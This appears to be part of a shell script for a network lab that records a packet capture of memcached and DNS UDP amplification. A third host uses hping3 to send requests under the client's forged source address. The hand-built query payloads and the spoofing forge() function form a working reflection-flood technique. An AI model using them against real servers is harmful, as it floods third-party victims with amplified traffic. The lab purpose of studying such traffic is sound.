# A third host asks memcached and dnsmasq short questions in the name of the client, which gets what it never asked for; before that, the
# client's own questions for the same. The trace is packed.
open_third
printf 'set page 0 3600 1300\r\n%s\r\nquit\r\n' "$(head -c 1300 /dev/zero | tr '\0' x)" > "$lab/page"
in_server memcached -u nobody -l $server4 -p 11211 -U 11211 > /dev/null 2>&1 &
wait_for_port 11211
in_server bash -c "cat '$lab/page' > /dev/tcp/$server4/11211"
long=$(head -c 240 /dev/zero | tr '\0' x)
start_dnsmasq "--txt-record=large.example.test,$long,$long,$long,$long" --edns-packet-max=1400
# What memcached asks for before a command over UDP: a number, 0 of 1 datagrams. What DNS asks for: one question, and 1400 bytes of room.
printf '\0\1\0\0\0\1\0\0get page\r\n' > "$lab/memcached-query"
printf '\0\7\1\0\0\1\0\0\0\0\0\1\5large\7example\4test\0\0\20\0\1\0\0\51\5\170\0\0\0\0\0\0' > "$lab/dns-query"
# forge PORT FILE [options]: 130 times in the name of the client, two hundred a second.
forge() {
  in_third hping3 -q --udp -p "$1" -a $client4 -E "$2" -d "$(stat -c %s "$2")" -i u5000 -c 130 "${@:3}" $server4 > /dev/null 2>&1 || true
}
start_capture amplification
for each in 1 2 3; do in_client dig +tries=1 +time=1 txt large.example.test @$server4 > /dev/null; done
forge 11211 "$lab/memcached-query" -s 80 -k
forge 53 "$lab/dns-query"
stop_capture amplification
close_third
gzip -9nf "$here/amplification.pcap"
